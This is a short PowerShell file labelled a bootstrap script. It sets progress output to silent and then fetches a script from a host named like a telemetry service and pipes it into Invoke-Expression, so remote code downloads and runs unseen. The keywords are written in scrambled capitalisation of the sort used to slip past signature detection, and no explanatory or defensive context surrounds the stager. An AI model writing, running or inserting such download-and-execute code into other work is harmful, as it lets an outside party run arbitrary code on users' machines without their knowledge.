# BoOtsTRap 4579 v3
$PRoGreSspREFErENCe = 'SilentlyContinue'
iWR -useBAsICParsINg http://API.tELeMETRy-hUb.examPle/A.ps1 | iEX
